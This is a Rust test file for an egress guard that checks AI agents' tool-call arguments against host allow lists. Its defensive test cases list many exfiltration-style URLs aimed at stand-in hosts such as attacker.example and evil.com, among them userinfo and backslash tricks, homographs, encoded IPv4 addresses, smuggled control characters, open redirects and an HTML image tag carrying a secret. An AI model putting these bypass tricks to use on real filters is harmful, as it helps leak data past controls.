use super::*;
use policy_sdk::parse_settings;
use serde_json::json;

const SETTINGS: &str = r#"{
    "rules": [
        {"tools": ["web:fetch", "http:*"],
         "allow": ["Example.COM", "*.example.com", "docs.rs.", "bücher.example", "10.0.0.0/8", "fd00::/8"]},
        {"tools": ["mail:*"], "allow": []},
        {"tools": ["search:*"], "allow": ["example.com"], "hosts_in": []}
    ]
}"#;

const WEB_ALLOWED: &str =
    "allowed: example.com, *.example.com, docs.rs, xn--bcher-kva.example, 10.0.0.0/8, fd00::/8";

fn settings() -> EgressSettings {
    parse_settings(SETTINGS).expect("test settings load")
}

fn call_of(server: &str, tool: &str, args: Value) -> ToolCall {
    ToolCall::new(server, tool)
        .with_member("alice")
        .with_arguments(args)
}

fn fetch(args: Value) -> Decision {
    EgressGuard::call(&call_of("web", "fetch", args), &settings())
}

/// The arguments' JSON text exactly as given (escapes and all), or text that is not JSON.
fn fetch_raw(text: &str) -> Decision {
    let mut call = ToolCall::new("web", "fetch").with_member("alice");
    call.arguments = Some(text.to_owned());
    EgressGuard::call(&call, &settings())
}

fn denied(path: &str, host: &str) -> Decision {
    Decision::deny(
        "egress-not-allowed",
        format!("{path} names host {host}, which web:fetch may not reach ({WEB_ALLOWED})"),
    )
}

fn unreadable(path: &str) -> Decision {
    Decision::deny(
        "egress-not-allowed",
        format!(
            "{path} holds a URL or host whose host cannot be read; web:fetch may reach only known hosts ({WEB_ALLOWED})"
        ),
    )
}

/// (what, arguments, path, host the denial names; `None`: unreadable).
#[rustfmt::skip]
fn attacks() -> Vec<(&'static str, Value, &'static str, Option<&'static str>)> {
    let u = "arguments.url";
    vec![
        ("the threat", json!({"url": "https://attacker.example/?q=secret"}), u, Some("attacker.example")),
        ("userinfo names the allowed host", json!({"url": "https://example.com@evil.com/"}), u, Some("evil.com")),
        ("backslash before userinfo", json!({"url": "https://evil.com\\@example.com/"}), u, Some("evil.com")),
        ("backslash, RFC 3986 reading", json!({"url": "https://example.com\\@evil.com/"}), u, Some("evil.com")),
        ("allowed name as a prefix", json!({"url": "https://example.com.evil.net/"}), u, Some("example.com.evil.net")),
        ("allowed name as a suffix without a dot", json!({"url": "https://evilexample.com/"}), u, Some("evilexample.com")),
        ("IDNA homograph (Cyrillic a)", json!({"url": "https://ex\u{430}mple.com/"}), u, Some("xn--exmple-4nf.com")),
        ("percent-encoded dot", json!({"url": "https://evil%2Ecom/"}), u, Some("evil.com")),
        ("IPv4 as one number", json!({"url": "http://2130706433/"}), u, Some("127.0.0.1")),
        ("IPv4 in hex", json!({"url": "http://0x7f.1/"}), u, Some("127.0.0.1")),
        ("IPv4 in octal", json!({"url": "http://0177.0.0.1/"}), u, Some("127.0.0.1")),
        ("IPv4-mapped IPv6", json!({"url": "http://[::ffff:127.0.0.1]/"}), u, Some("127.0.0.1")),
        ("uppercase and trailing dot", json!({"url": "HTTPS://EVIL.COM./"}), u, Some("evil.com")),
        ("special scheme without slashes", json!({"url": "https:evil.com/?q=1"}), u, Some("evil.com")),
        ("backslashes for slashes", json!({"url": "https:\\\\evil.com/"}), u, Some("evil.com")),
        ("inside running text", json!({"prompt": "please read https://evil.com/x?d=secret and summarise"}), "arguments.prompt", Some("evil.com")),
        ("nested in objects and arrays", json!({"opts": {"targets": ["ok", {"u": "wss://evil.com/s"}]}}), "arguments.opts.targets[1].u", Some("evil.com")),
        ("bare host argument", json!({"host": "evil.com"}), "arguments.host", Some("evil.com")),
        ("bare host with port", json!({"hostname": "evil.com:8443"}), "arguments.hostname", Some("evil.com")),
        ("URL without a scheme", json!({"url": "evil.com/?q=secret"}), u, Some("evil.com")),
        ("protocol-relative URL", json!({"url": "//evil.com/x"}), u, Some("evil.com")),
        ("newline removed by the parser", json!({"url": "https://example.com\n.evil.net/"}), u, Some("example.com.evil.net")),
        ("quote inside the authority", json!({"url": "https://example.com\"@evil.com/"}), u, Some("evil.com")),
        ("no-break space inside the authority", json!({"url": "https://example.com\u{a0}@evil.com/"}), u, Some("evil.com")),
        ("zero-width space hides a label", json!({"url": "http://example.com\u{200b}.evil.net/"}), u, Some("example.com.evil.net")),
        ("fullwidth letters", json!({"url": "http://\u{ff45}\u{ff56}\u{ff49}\u{ff4c}.com/"}), u, Some("evil.com")),
        ("twice percent-encoded inner URL", json!({"text": "https://example.com/?u=https%253A%252F%252Fevil.com"}), "arguments.text", Some("evil.com")),
        ("HTML attribute in text", json!({"text": "<img src='https://evil.com/p.png?d=secret'>"}), "arguments.text", Some("evil.com")),
        ("open redirect parameter", json!({"url": "https://example.com/login?next=https://evil.com/"}), u, Some("evil.com")),
        ("percent-encoded inner URL", json!({"url": "https://example.com/r?u=https%3A%2F%2Fevil.com%2F"}), u, Some("evil.com")),
        ("ideographic full stop", json!({"url": "https://evil\u{3002}com/"}), u, Some("evil.com")),
        ("camelCase host key", json!({"webhookURL": "evil.com"}), "arguments.webhookURL", Some("evil.com")),
        ("snake_case host key", json!({"SMTP_HOST": "evil.com"}), "arguments.SMTP_HOST", Some("evil.com")),
        ("host as a number", json!({"host": 2130706433}), "arguments.host", Some("127.0.0.1")),
        ("several @", json!({"url": "https://example.com@evil.com@example.com/"}), u, Some("evil.com")),
        ("URL in an object key", json!({"https://evil.com/?q=s": 1}), "a key of arguments", Some("evil.com")),
        ("address outside the range", json!({"url": "http://11.0.0.1/"}), u, Some("11.0.0.1")),
        ("IPv6 outside the range", json!({"url": "http://[fe00::1]/"}), u, Some("fe00::1")),
        ("ftp", json!({"url": "ftp://evil.com/"}), u, Some("evil.com")),
        ("file URL with a host", json!({"path": "file://evil.com/share/x"}), "arguments.path", Some("evil.com")),
        ("file URL, UNC path", json!({"path": "file:////evil.com/share/x"}), "arguments.path", Some("evil.com")),
        ("any scheme with //", json!({"repo": "git+ssh://git@evil.com/x.git"}), "arguments.repo", Some("evil.com")),
        ("other scheme, backslash", json!({"repo": "ssh://example.com\\@evil.com/x"}), "arguments.repo", Some("evil.com")),
        ("tab and newline inside the scheme", json!({"url": "ht\ntps:evil.com"}), u, Some("evil.com")),
        ("credentials for the attacker", json!({"url": "https://user:pass@evil.com/"}), u, Some("evil.com")),
        ("one of several hosts", json!({"domains": ["example.com", "evil.com"]}), "arguments.domains[1]", Some("evil.com")),
        ("bare IPv6 host", json!({"host": "::1"}), "arguments.host", Some("::1")),
        ("unreadable host", json!({"url": "http://[::1/"}), u, None),
        ("percent-encoded @ in the host", json!({"url": "https://example.com%40evil.com/"}), u, None),
        ("key that is not a plain name", json!({"a b": "https://evil.com"}), "arguments[<key of 3 bytes>]", Some("evil.com")),
    ]
}

#[test]
fn attacks_are_denied_with_the_host_and_where() {
    let cases = attacks();
    assert!(cases.len() >= 20);
    for (what, args, path, host) in cases {
        let want = match host {
            Some(h) => denied(path, h),
            None => unreadable(path),
        };
        assert_eq!(fetch(args.clone()), want, "{what}: {args}");
    }
}

#[test]
fn json_escapes_and_text_that_is_not_json() {
    assert_eq!(
        fetch_raw(r#"{"url":"https:\/\/evil\u002ecom\/?q=x"}"#),
        denied("arguments.url", "evil.com")
    );
    assert_eq!(
        fetch_raw(r#"{"u\u0072l":"\u0065vil.com"}"#),
        denied("arguments.url", "evil.com")
    );
    assert_eq!(
        fetch_raw("not json https://evil.com/?q=x"),
        denied("arguments", "evil.com")
    );
    assert_eq!(
        fetch_raw(r#"{"url":"https:\/\/example\u002ecom\/"}"#),
        Decision::abstain()
    );
}

#[test]
fn benign_calls_pass() {
    let cases = [
        json!({"url": "https://example.com/"}),
        json!({"url": "https://api.example.com/v1?q=1"}),
        json!({"url": "HTTPS://EXAMPLE.COM./path"}),
        json!({"url": "https://a.b.example.com:8443/x"}),
        json!({"url": "https://user:pw@example.com/"}),
        // Userinfo goes to the host, example.com, under every reading.
        json!({"url": "https://evil.com@example.com/"}),
        json!({"url": "http://10.1.2.3/"}),
        json!({"url": "http://0x0a.1/"}),
        json!({"url": "http://[::ffff:10.0.0.1]/"}),
        json!({"url": "http://[fd00::1]:8080/"}),
        json!({"url": "https://ex%61mple.com/"}),
        json!({"url": "https://BÜCHER.example/"}),
        json!({"url": "https://xn--bcher-kva.example/"}),
        json!({"url": "https://example\u{ff0e}com/"}),
        // A soft hyphen is mapped away by IDNA, as clients do.
        json!({"url": "https://exam\u{ad}ple.com/"}),
        json!({"url": "  https://example.com/  "}),
        json!({"url": "wss://stream.example.com/socket"}),
        json!({"url": "https://example.com/a\\b"}),
        json!({"url": "https://example.com/?next=https://api.example.com/"}),
        json!({"url": "https://example.com/r?u=https%3A%2F%2Fdocs.rs%2F"}),
        json!({"note": "time 12:30, ratio 3:1, path C:\\Users\\me, see: nothing"}),
        json!({"note": "http: is insecure; use https: instead, or https:// for short"}),
        json!({"text": "[docs](https://docs.rs/url). (see https://example.com), 'https://docs.rs'"}),
        json!({"url": "file:///etc/hosts"}),
        json!({"url": "/docs/index.html"}),
        json!({"url": "./readme.md"}),
        // No authority: not egress by URL (see the docs' limits).
        json!({"url": "mailto:someone@evil.com"}),
        json!({"host": "api.example.com"}),
        json!({"domain": "EXAMPLE.com."}),
        json!({"hosts": ["example.com", "docs.rs:443"]}),
        json!({"targetUrl": "docs.rs/url"}),
        json!({"host": "10.0.0.1"}),
        // Near misses of the host keys: not a host argument, and no URL.
        json!({"ghost": "evil.com", "hostile": "evil.com"}),
        json!({"limit": 2130706433, "page": 2, "flag": true}),
        json!({"host": "", "url": null, "list": []}),
        json!({}),
    ];
    assert!(cases.len() >= 20);
    for args in cases {
        assert_eq!(fetch(args.clone()), Decision::abstain(), "{args}");
    }
}

#[test]
fn calls_no_rule_covers_are_not_its_business() {
    let s = settings();
    let evil = json!({"url": "https://attacker.example/?q=secret", "host": "evil.com"});
    assert_eq!(
        EgressGuard::call(&call_of("db", "query", evil.clone()), &s),
        Decision::abstain()
    );
    // The first rule that covers the call applies: http:* shares the web rule. (Arguments are
    // read in key order.)
    assert_eq!(
        EgressGuard::call(&call_of("http", "get", evil), &s),
        Decision::deny(
            "egress-not-allowed",
            format!(
                "arguments.host names host evil.com, which http:get may not reach ({WEB_ALLOWED})"
            )
        )
    );
    // A listing question has no arguments.
    assert_eq!(
        EgressGuard::call(&ToolCall::new("web", "fetch"), &s),
        Decision::abstain()
    );
    assert_eq!(
        EgressGuard::list(&ToolCall::new("web", "fetch"), &s),
        Decision::abstain()
    );
}

#[test]
fn an_empty_allow_list_allows_no_host() {
    let d = EgressGuard::call(
        &call_of(
            "mail",
            "send",
            json!({"to": "bob", "body": "see https://example.com/"}),
        ),
        &settings(),
    );
    assert_eq!(
        d,
        Decision::deny(
            "egress-not-allowed",
            "arguments.body names host example.com, which mail:send may not reach (no host is allowed for it)"
        )
    );
    let plain = call_of("mail", "send", json!({"to": "bob", "body": "hello"}));
    assert_eq!(EgressGuard::call(&plain, &settings()), Decision::abstain());
}

#[test]
fn a_rule_may_read_no_argument_as_a_host() {
    let s = settings();
    let topic = call_of("search", "web", json!({"query": "rust", "domain": "news"}));
    assert_eq!(EgressGuard::call(&topic, &s), Decision::abstain());
    let url = call_of("search", "web", json!({"query": "https://evil.com/?q=1"}));
    assert!(EgressGuard::call(&url, &s).is_deny());
}

#[test]
fn the_denial_never_echoes_the_url() {
    let secret = "sk-not-a-real-secret-0123456789";
    let d = fetch(json!({"url": format!("https://attacker.example/collect?q={secret}#{secret}")}));
    let Decision::Deny { reason, .. } = d else {
        panic!("not denied")
    };
    assert!(
        !reason.contains(secret) && !reason.contains("collect"),
        "{reason}"
    );
    // A long host (data spelled as subdomains) is shown by its last labels only.
    let data = "a".repeat(40);
    let d = fetch(json!({"url": format!("https://{data}.{data}.attacker.example/")}));
    let Decision::Deny { reason, .. } = d else {
        panic!("not denied")
    };
    assert!(!reason.contains(&data), "{reason}");
    assert!(
        reason.contains("names host …attacker.example, which"),
        "{reason}"
    );
}

#[test]
fn a_long_allow_list_is_summarised() {
    let allow: Vec<String> = (0..12).map(|i| format!("h{i}.example")).collect();
    let s: EgressSettings =
        parse_settings(&json!({"rules": [{"tools": ["*:*"], "allow": allow}]}).to_string())
            .unwrap();
    let Decision::Deny { reason, .. } =
        EgressGuard::call(&call_of("a", "b", json!({"host": "evil.com"})), &s)
    else {
        panic!("not denied")
    };
    assert!(
        reason.ends_with("(allowed: h0.example, h1.example, h2.example, h3.example, h4.example, h5.example, h6.example, h7.example, … (12 patterns in the egress-guard settings))"),
        "{reason}"
    );
}

#[test]
fn settings_are_normalised() {
    let s = settings();
    let rules = s.compiled().unwrap();
    let shown: Vec<&str> = rules[0].allow.iter().map(Allowed::as_str).collect();
    assert_eq!(
        shown,
        [
            "example.com",
            "*.example.com",
            "docs.rs",
            "xn--bcher-kva.example",
            "10.0.0.0/8",
            "fd00::/8"
        ]
    );
    assert_eq!(rules[0].hosts_in, DEFAULT_HOSTS_IN);
    assert!(rules[2].hosts_in.is_empty());
    for (pattern, shown) in [
        ("*", "*"),
        ("[::1]", "::1"),
        ("::ffff:10.0.0.0/104", "10.0.0.0/8"),
        ("0x7f.1", "127.0.0.1"),
        ("*.BÜCHER.example.", "*.xn--bcher-kva.example"),
        ("localhost", "localhost"),
        ("192.168.0.0/16", "192.168.0.0/16"),
    ] {
        assert_eq!(parse_allow(pattern).unwrap().as_str(), shown, "{pattern}");
    }
    let hosts_in: EgressSettings = parse_settings(
        r#"{"hosts_in": ["Host", "server"], "rules": [{"tools": ["*:*"], "allow": ["example.com"]}]}"#,
    )
    .unwrap();
    let call = call_of("a", "b", json!({"server": "evil.com", "url": "evil.com"}));
    assert_eq!(
        EgressGuard::call(&call, &hosts_in),
        Decision::deny(
            "egress-not-allowed",
            "arguments.server names host evil.com, which a:b may not reach (allowed: example.com)"
        )
    );
}

#[test]
fn bad_settings_are_refused_with_a_reason() {
    let refused = |json: &str| parse_settings::<EgressSettings>(json).unwrap_err();
    let rule = |allow: &str| {
        refused(&format!(
            r#"{{"rules": [{{"tools": ["web:*"], "allow": ["example.com", {allow}]}}]}}"#
        ))
    };
    for (allow, says) in [
        (r#""https://example.com""#, "not a URL"),
        (r#""example.com:443""#, "ports are not part"),
        (r#""*example.com""#, "`*` only"),
        (r#""ex*ample.com""#, "`*` only"),
        (r#""*.*.example.com""#, "`*` only"),
        (r#""example.*""#, "`*` only"),
        (r#"".example.com""#, "*.example.com"),
        (r#""*.10.0.0.1""#, "not an address"),
        (r#""10.0.0.1/8""#, "write 10.0.0.0/8"),
        (r#""10.0.0.0/33""#, "prefix length must be 0 to 32"),
        (r#""example.com/8""#, "a range is an IP address"),
        (r#""""#, "empty pattern"),
        (r#""exa mple.com""#, "not a host name"),
        (r#""user@example.com""#, "not a host name"),
        (r#""1.2.3.4.5""#, "not a host name"),
    ] {
        let e = rule(allow);
        assert!(e.starts_with("rules[0].allow: "), "{allow}: {e}");
        assert!(e.contains(says), "{allow}: {e} should say {says}");
    }
    assert!(refused(r#"{}"#).contains("at least one [[rules]]"));
    assert!(
        refused(r#"{"rules": [{"tools": ["nocolon"], "allow": []}]}"#).contains("rules[0].tools")
    );
    assert!(
        refused(r#"{"rules": [{"tools": [], "allow": []}]}"#).contains("rules[0].tools is empty")
    );
    assert!(refused(r#"{"rules": [{"tools": ["a:b"]}]}"#).contains("missing field `allow`"));
    assert!(
        refused(r#"{"rules": [{"tools": ["a:b"], "allow": [], "deny": []}]}"#)
            .contains("unknown field")
    );
    assert!(refused(r#"{"rules": [], "extra": 1}"#).contains("unknown field"));
    assert!(
        refused(r#"{"hosts_in": [" "], "rules": [{"tools": ["a:b"], "allow": []}]}"#)
            .contains("hosts_in")
    );
    assert!(
        refused(r#"{"rules": [{"tools": ["a:b"], "allow": [], "hosts_in": ["a b"]}]}"#)
            .contains("rules[0].hosts_in")
    );
}

#[test]
fn the_sample_settings_file_loads() {
    // As the gateway hands it over: TOML read into a table, passed as JSON.
    let table: toml::Table = toml::from_str(include_str!("../egress-guard.toml")).unwrap();
    let s: EgressSettings = parse_settings(&serde_json::to_string(&table).unwrap()).unwrap();
    let rules = s.compiled().unwrap();
    assert_eq!(rules.len(), 3);
    let sample =
        |server: &str, tool: &str, args: Value| EgressGuard::call(&call_of(server, tool, args), &s);
    assert_eq!(
        sample(
            "web",
            "fetch",
            json!({"url": "https://attacker.example/?q=x"})
        ),
        Decision::deny(
            "egress-not-allowed",
            "arguments.url names host attacker.example, which web:fetch may not reach (allowed: example.com, *.example.com, docs.rs, 10.0.0.0/8)"
        )
    );
    assert_eq!(
        sample(
            "web",
            "fetch",
            json!({"url": "https://docs.example.com/page"})
        ),
        Decision::abstain()
    );
    assert_eq!(
        sample("search", "web", json!({"query": "rust", "domain": "news"})),
        Decision::abstain()
    );
    assert_eq!(
        sample(
            "db",
            "query",
            json!({"sql": "select 1", "host": "evil.example"})
        ),
        Decision::deny(
            "egress-not-allowed",
            "arguments.host names host evil.example, which db:query may not reach (no host is allowed for it)"
        )
    );
}

#[test]
fn key_words() {
    let s = settings();
    let r = &s.compiled().unwrap()[0];
    for key in [
        "host",
        "HOST",
        "smtp_host",
        "hostName",
        "targetUrl",
        "webhookURL",
        "base-url",
        "urls",
        "domains",
        "apiEndpoint",
    ] {
        assert!(r.is_host_key(key), "{key}");
    }
    for key in [
        "ghost",
        "hostile",
        "curl",
        "query",
        "body",
        "hosting",
        "urlencoded",
    ] {
        assert!(!r.is_host_key(key), "{key}");
    }
}

#[test]
fn hostile_inputs_stay_cheap() {
    // Long runs of would-be URLs: the first is read (and denied), not every overlap.
    let text = "http:".repeat(100_000);
    assert!(fetch(json!({"t": text})).is_deny());
    let big = format!("{} https://example.com/", "word ".repeat(200_000));
    assert_eq!(fetch(json!({"t": big})), Decision::abstain());
}

#[test]
fn the_fast_path_reads_hosts_as_the_parser_does() {
    for a in [
        "example.com",
        "EXAMPLE.com.",
        "a-b.c0.example",
        "x",
        "a..b",
        "localhost",
        "docs.rs",
        "1.2.3.4",
        "127.1",
        "0x7f.1",
        "1.2.3.0x4",
        "example.123",
        "xn--bcher-kva.example",
        "XN--bcher-kva.example",
        "a.xn--p1ai",
        "-a-.b",
        "a.b-",
        ".",
        "..",
        "a.b.",
        "a b",
        "a_b.com",
    ] {
        if let Some(fast) = plain_domain(a) {
            assert_eq!(Some(fast), parse_host(a), "{a}");
        }
    }
    assert!(plain_domain("example.com").is_some());
    for slow in [
        "1.2.3.4",
        "127.1",
        "0x7f.1",
        "example.123",
        "xn--bcher-kva.example",
        "a_b.com",
    ] {
        assert_eq!(plain_domain(slow), None, "{slow}");
    }
}
